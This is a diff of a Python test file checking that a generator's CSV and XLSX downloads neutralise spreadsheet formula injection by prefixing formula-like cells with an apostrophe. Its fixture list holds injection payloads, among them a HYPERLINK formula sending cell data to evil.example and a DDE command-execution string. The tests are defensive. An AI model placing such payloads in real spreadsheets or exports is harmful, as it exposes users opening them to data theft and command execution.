@@ -7,7 +7,7 @@ import zipfile
 import openpyxl
 
 from generator.render.downloads import COLUMNS, to_csv, to_xlsx
-from generator.render.spreadsheet import csv_text
+from generator.render.spreadsheet import download_text
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
             "\t=1+1", "\r=1+1"]
@@ -19,10 +19,10 @@ def row(note: str, value_text: str = "99.2", number: float | None = 99.2) -> lis
     return [cells[c] for c in COLUMNS]
 
 
-def test_csv_text_prefixes_formula_starts_and_leaves_plain_numbers():
-    assert [csv_text(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
-    assert csv_text("-0.5") == "-0.5" and csv_text("+3") == "+3" and csv_text("99.2%") == "99.2%"
-    assert csv_text("说明=1") == "说明=1"
+def test_download_text_prefixes_formula_starts_and_leaves_plain_numbers():
+    assert [download_text(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
+    assert download_text("-0.5") == "-0.5" and download_text("+3") == "+3" and download_text("99.2%") == "99.2%"
+    assert download_text("说明=1") == "说明=1"
 
 
 def test_csv_download_cells_are_text_and_numbers_stay_numbers():
@@ -34,7 +34,7 @@ def test_csv_download_cells_are_text_and_numbers_stay_numbers():
     assert records[-1][COLUMNS.index("数值")] == "-0.5"
 
 
-def test_xlsx_download_has_no_formula_and_keeps_the_text():
+def test_xlsx_download_has_no_formula_and_neutralises_the_text_as_the_csv_does():
     data = to_xlsx([row(f) for f in FORMULAS], "测试")
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
@@ -42,6 +42,6 @@ def test_xlsx_download_has_no_formula_and_keeps_the_text():
     sheet = openpyxl.load_workbook(io.BytesIO(data))["指标数据"]
     column = COLUMNS.index("说明") + 1
     cells = [sheet.cell(n, column) for n in range(2, 2 + len(FORMULAS))]
-    assert [c.value for c in cells] == FORMULAS  # exactly as written, as text
+    assert [c.value for c in cells] == ["'" + f for f in FORMULAS]  # the CSV's rule, as text
     assert all(c.data_type == "s" for c in cells)
     assert sheet.cell(2, COLUMNS.index("数值") + 1).value == 99.2  # a number stays a number
